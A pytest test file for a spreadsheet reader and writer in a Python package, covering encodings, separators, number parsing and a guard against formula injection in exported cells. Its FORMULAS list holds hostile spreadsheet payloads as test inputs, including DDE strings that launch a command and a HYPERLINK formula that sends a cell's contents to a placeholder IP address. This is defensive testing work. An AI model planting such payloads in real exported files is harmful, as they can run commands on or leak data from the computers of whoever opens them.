"""Tables out of spreadsheets, however they are written; and cells, none of which is a formula or cut silently."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st
from xlsxwriter import Workbook

import medhelm as package
from medhelm.errors import ConfigError
from medhelm.io import spreadsheets
from medhelm.io.parquet import sql_text
from medhelm.io.spreadsheets import (
    FORMULA,
    LONGEST_CELL,
    NUMBER,
    Spreadsheet,
    cell_parts,
    csv_file,
    guarded,
    is_formula,
    is_percentage,
    is_too_long,
    parse_number,
    read_spreadsheet,
    unguarded,
)
from tests.support.cases import table
from tests.support.cli import Medhelm
from tests.support.stores import make_store

EXPECTED = ("rater", "model")
CELLS = [["rater", "model", "note"], ["Müller", "m/1", "a, b; c"], ["B", "m/2", 'said "no"']]


def sheet(folder: Path, content: bytes, name: str = "x.csv") -> Spreadsheet:
    path = folder / name
    path.write_bytes(content)
    return read_spreadsheet(path, EXPECTED)


def as_text(separator: str, end: str = "\r\n") -> str:
    quoted = [
        [f'"{cell.replace(chr(34), chr(34) * 2)}"' if set(cell) & set(',;"') else cell for cell in row] for row in CELLS
    ]
    return "".join(separator.join(row) + end for row in quoted)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_every_kind_of_csv_gives_the_same_cells(tmp_path: Path, separator: str, encoding: str) -> None:
    found = sheet(tmp_path, as_text(separator).encode(encoding))
    assert [found.names, *(cells for _, cells in found.rows)] == CELLS
    assert found.decimal_comma == (separator != ",")
    assert found.encoding == encoding.removesuffix("-sig").removesuffix("-le")


def test_a_first_line_may_announce_the_separator(tmp_path: Path) -> None:
    found = sheet(tmp_path, b"sep=;\r\nrater;a,b\r\nx;1\r\n")
    assert (found.names, found.rows, found.line) == (["rater", "a,b"], [(3, ["x", "1"])], 2)


def test_the_separator_is_the_one_that_gives_expected_columns(tmp_path: Path) -> None:
    """Most of what stands in this header are commas."""
    found = sheet(tmp_path, b"Rater;model;a,b,c,d,e\nx;y;1,5\n")
    assert found.names == ["Rater", "model", "a,b,c,d,e"]
    assert sheet(tmp_path, b"p;q\n1;2\n").names == ["p", "q"]


def test_lines_are_counted_through_blank_rows_and_long_cells(tmp_path: Path) -> None:
    text = b'\nrater,model\n\na,"two\nlines"\n,\nb,m\n'
    found = sheet(tmp_path, text)
    assert found.line == 2
    assert [(line, cells[0]) for line, cells in found.rows] == [(4, "a"), (7, "b")]


def test_a_workbook_is_read_as_text(tmp_path: Path) -> None:
    with Workbook(str(tmp_path / "x.xlsx")) as book:
        page = book.add_worksheet()
        for row, cells in enumerate([["rater", "grade"], ["A", 4], ["B", 4.5], ["C", None], ["D", "4,5"]]):
            page.write_row(row, 0, cells)
    found = read_spreadsheet(tmp_path / "x.xlsx")
    assert found.rows == [(2, ["A", "4"]), (3, ["B", "4.5"]), (4, ["C", ""]), (5, ["D", "4,5"])]
    assert found.decimal_comma


@pytest.mark.parametrize(
    ("name", "content", "line", "words"),
    [
        ("x.csv", b"\xef\xbb\xbf\r\n;;\r\n", None, "the file is empty."),
        ("x.csv", b'a,b\n1,"x"y\n', 2, "not a well-formed CSV record"),
        ("x.csv", b'a,b\n1,2\n3,"x\n4,5\n', 3, "not a well-formed CSV record"),
        ("x.csv", b"\xff\xfea\x00,", None, "neither UTF-8, UTF-16 nor Windows-1252"),
        ("x.xlsx", b"no workbook", None, "cannot be read as a workbook"),
        ("x.csv", b"PK\x03\x04" + b"\0" * 600, None, "is a workbook"),
        ("x.csv", b"a,b\n" + b" " * 2**20, None, "is larger than 1 MiB"),
    ],
)
def test_what_is_no_table_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, content: bytes, line: int | None, words: str
) -> None:
    monkeypatch.setattr(spreadsheets, "MAX_BYTES", 2**20)
    with pytest.raises(ConfigError) as caught:
        sheet(tmp_path, content, name)
    (problem,) = caught.value.problems
    assert (problem.line, words in problem.text) == (line, True)


# --- numbers ----------------------------------------------------------------------------------------------------------


@table(
    ("field", "number"),
    [
        (".5", 0.5),
        ("\u22120.25", -0.25),
        ("7,43E-1", 0.743),
        ("1,000", 1.0),
        ("1,234.5", 1234.5),
        ("1.234,5", 1234.5),
        ("1\u202f234,5", 1234.5),
        ("74.3%", 0.743),
        ("74,3 %", 0.743),
    ],
)
def test_numbers_are_read_as_they_were_meant(field: str, number: float) -> None:
    assert parse_number(field) == number
    assert is_percentage(field) == field.endswith("%")


@table("field", ["", " ", "-", "—", "NaN", "n/a", "#N/A", "null", "None"])
def test_what_stands_for_no_value_is_missing(field: str) -> None:
    assert parse_number(field) is None


@table(
    "field",
    ["high", "inf", "1e999", "1.2.3", "1,2,3", "12,34.5", "0x1", "=0.5", "1/2", "%", "1_000", "٣", "."],
)
def test_anything_else_is_no_number(field: str) -> None:
    with pytest.raises(ValueError, match=re.escape(field)):
        parse_number(field)


@given(st.integers(min_value=0, max_value=10**9))
def test_separators_between_thousands_change_nothing(value: int) -> None:
    english = f"{value:,}.25"
    german = english.translate(str.maketrans(",.", ".,"))
    assert parse_number(english) == parse_number(german) == value + 0.25


# --- cells ------------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '-2 +HYPERLINK("http://203.0.113.5/?x="&A2,"x")',
    "+1 +cmd|' /C calc'!A0", "-1.5%+HYPERLINK(1)", "-1e5*cmd()", "\n=1+1", "\r\n=1+1", "\t=1+1", "\ttext", "\rtext",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\u2066=1+1", "\x00=1+1", "\x1b=1+1", "\x85=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\ufe66A1", "\u2212A1", "'=1+1", "''=1+1", "'\t=1+1",
    "- rest and fluids", "-", "-5\n=1+1", "-5\n", "+1 [=cmd]", "-1 [2](3)", "-1 [1]+A2", "-0.1 [-0.2, 0.1] +A2", "-٥",
]  # fmt: skip
TEXTS = [
    "", "a", "text = more", "a@b.example", "5", "-5", "+5", "-0.5", "-.5", "-1,234.5", "-12%", "-1e-05", "+1.5E3",
    "-0.019 [-0.054, 0.011]", "'tis", "'", "<0.001", "(=1)", '"=1"', "–", "é", "openai/gpt-4o", "[x](y)",
]  # fmt: skip
any_text = st.one_of(
    st.text(), st.text(st.sampled_from("'=+-@\t\r\n \u00a0\ufeff＝1.,%eE[]a")), st.sampled_from(FORMULAS + TEXTS)
)


def test_formulas_are_known_from_texts_and_numbers() -> None:
    assert [text for text in FORMULAS if not is_formula(text)] == []
    assert [text for text in TEXTS if is_formula(text)] == []


@given(any_text)
def test_a_guarded_text_is_no_formula_and_can_be_restored(text: str) -> None:
    field = guarded(text)
    assert unguarded(field) == text
    assert field == text or field[0] == "'"
    stripped = text.strip("".join(map(chr, range(33))) + "\u00a0\ufeff\u200b'")
    assert field != text or not stripped.startswith(tuple("=+-@＝＋－＠")) or not any(map(str.isalpha, stripped[:1]))


@given(st.lists(any_text.filter(lambda text: "\0" not in text), min_size=1, max_size=20))
def test_the_database_knows_the_same_formulas(texts: list[str]) -> None:
    texts = [text.encode("utf-8", "replace").decode() for text in texts]
    query = (
        f"SELECT regexp_matches(t, {sql_text(FORMULA)}) AND NOT regexp_matches(t, {sql_text(NUMBER)}) "
        "FROM (SELECT unnest($texts::VARCHAR[]) AS t)"
    )
    with duckdb.connect() as connection:
        found = [row[0] for row in connection.execute(query, {"texts": texts}).fetchall()]
    assert found == [is_formula(text) for text in texts]


@pytest.mark.parametrize("text", ["", "x" * LONGEST_CELL, "\U0001f600" * LONGEST_CELL, "é" * 40_000])
def test_parts_of_a_text_fit_into_cells(text: str) -> None:
    parts = cell_parts(text)
    assert "".join(parts) == text
    assert all(len(part.encode("utf-16-le")) // 2 <= LONGEST_CELL for part in parts)
    assert is_too_long(text) == (len(parts) > 1)
    assert cell_parts("a\ud800b\uffff") == ["a\ufffdb\ufffd"]
    assert (csv_file("a,b\n"), csv_file("Étude\n")) == (b"a,b\n", b"\xef\xbb\xbf\xc3\x89tude\n")


# --- every writer -----------------------------------------------------------------------------------------------------

GUARDED = {
    "extensions/study/formats/redcap.py",
    "results/formats/rating_workbook.py",
    "results/formats/tables.py",
    "results/export.py",
    "storage/ratings.py",
}
"""Modules that write cells with texts of models or users."""
INVENTED = {"benchmarks/new_benchmark.py", "benchmarks/data/sample_rows.py"}
"""Modules that write our own invented rows as data of a benchmark, which is read back as it is."""


WRITER = r"csv\.(?:writer|DictWriter)\("


def test_every_writer_of_csv_and_workbooks_uses_the_guard() -> None:
    writers, users = set(), set()
    source = Path(package.__file__).parent
    for path in source.rglob("*.py"):
        name, text = path.relative_to(source).as_posix(), path.read_text(encoding="utf-8")
        if "xlsxwriter" in text or "FORMAT csv" in text or ("import csv" in text and re.search(WRITER, text)):
            writers.add(name)
        if "medhelm.io.spreadsheets" in text:
            users.add(name)
    assert writers == GUARDED | INVENTED
    assert users >= GUARDED


def formulas_in(content: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline="")))
    return [cell for row in rows for cell in row if is_formula(cell) and not cell.startswith("'")]


def test_tables_have_no_formula(medhelm: Medhelm, tmp_path: Path) -> None:
    scores = {"triage": {"=HYPERLINK(1)": [1.0, 0.0, 1.0], "-2 +HYPERLINK(2)": [0.0, 0.0, 1.0]}}
    make_store(tmp_path, scores)
    for command in ("leaderboard", "leaderboard --by head-to-head", "cost", "runs list"):
        done = medhelm(*command.split(), "--format", "csv", "--store", tmp_path)
        assert (done.code, "HYPERLINK" in done.out, formulas_in(done.out)) == (0, True, [])
